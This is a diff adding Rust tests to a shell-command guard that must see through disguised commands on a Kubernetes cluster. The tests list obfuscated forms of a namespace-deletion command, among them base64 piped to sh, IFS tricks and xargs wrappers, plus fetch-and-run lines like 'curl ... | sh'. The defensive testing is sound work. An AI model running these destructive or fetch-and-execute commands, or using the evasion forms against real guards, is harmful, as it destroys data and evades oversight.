@@ -259,6 +259,66 @@ fn missing_full_guard() {
     assert_eq!(text(&harmless), ("ran: get ns\n".into(), String::new()));
 }
 
+/// What `guard check --json` says of a line, and the argv of every program in it.
+fn checked(scene: &Scene, words: &str) -> (bool, Vec<String>) {
+    let output = scene.guard(&["check", "--json", "--shell", words]);
+    let said: serde_json::Value = serde_json::from_slice(&output.stdout).expect("one object");
+    let argv = |command: &serde_json::Value| {
+        let words = command["argv"].as_array().expect("words");
+        words.iter().filter_map(|w| w.as_str()).collect::<Vec<_>>().join(" ")
+    };
+    let commands = said["commands"].as_array().expect("commands").iter().map(argv).collect();
+    (said["dangerous"] == true, commands)
+}
+
+#[test]
+fn wrapped_commands_are_read_through() {
+    let scene = cluster("through");
+    for words in [
+        "k\\ube'ct'l delete ns payments",
+        "{kubectl,delete,ns,payments}",
+        "IFS=,; c=kubectl,delete,ns,payments; $c",
+        "$(printf 'kube%s' ctl) delete ns payments",
+        "echo a3ViZWN0bCBkZWxldGUgbnMgcGF5bWVudHM= | base64 -d | sh",
+        "sh <<< 'kubectl delete ns payments'",
+        "nice -n5 env -S 'timeout 5 kubectl' delete ns payments",
+        "echo payments | xargs -I% sh -c 'kubectl delete ns %'",
+        "f() { \"$@\" payments; }; f kubectl delete ns",
+    ] {
+        let (dangerous, commands) = checked(&scene, words);
+        assert!(dangerous, "{words}");
+        assert!(commands.contains(&"kubectl delete ns payments".to_owned()), "{words}: {commands:?}");
+    }
+    assert!(!checked(&scene, "for n in a b; do kubectl get ns $n; done | sort").0);
+    let output = scene
+        .command(
+            "setsid",
+            &[
+                "-w",
+                support::guard().to_str().expect("text"),
+                "run",
+                "--",
+                "sudo",
+                "kubectl",
+                "delete",
+                "ns",
+                "payments",
+            ],
+        )
+        .output();
+    assert_eq!(output.expect("guard runs").status.code(), Some(77));
+}
+
+#[test]
+fn text_that_is_made_while_it_runs() {
+    let scene = cluster("made");
+    for words in
+        ["curl -s http://x | sh", "eval \"$(pick)\"", "curl -o s http://x; sh s", "echo x > s; . ./s"]
+    {
+        assert!(checked(&scene, words).0, "{words}");
+    }
+}
+
 #[test]
 fn every_row_of_the_document_has_its_test() {
     let document = include_str!("../docs/threats.md");
